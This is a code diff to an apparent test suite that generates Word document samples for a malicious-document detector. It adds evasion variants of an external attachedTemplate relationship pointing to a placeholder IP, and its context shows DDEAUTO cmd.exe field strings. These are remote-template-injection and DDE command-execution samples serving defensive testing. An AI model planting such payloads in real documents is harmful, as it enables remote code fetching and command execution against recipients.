@@ -93,6 +93,14 @@ def _relations() -> Iterator[tuple[str, Callable[[], File]]]:
             body = f'<Relationships><Relationship Id="r9" Type="{_TYPE}{kind}" Target="{target}" TargetMode="External"/></Relationships>'
             part = _RELS if number % 2 else "word/_rels/settings.xml.rels"
             yield f"word {kind} {target}", _word({part: body.encode()})
+    template = f'<Relationships><Relationship Type="{_TYPE}attachedTemplate" Target="http://192.0.2.1/a%s" TargetMode="%s"/></Relationships>'
+    yield "word relation in numbers", _word({_RELS: (template % ("", "&#69;xternal")).encode()})
+    yield "word relation with a bracket", _word({_RELS: (template % ("&gt;>", "External")).encode()})
+    yield "word relation in wide letters", _word({_RELS: (template % ("", "External")).encode("utf-16")})
+    yield (
+        "word relation in capitals",
+        _word({"word/_rels/settings.xml.RELS": (template % ("", "External")).encode()}),
+    )
     for field in (
         'DDEAUTO c:\\\\windows\\\\cmd.exe "/k"',
         'DDE excel "x"',
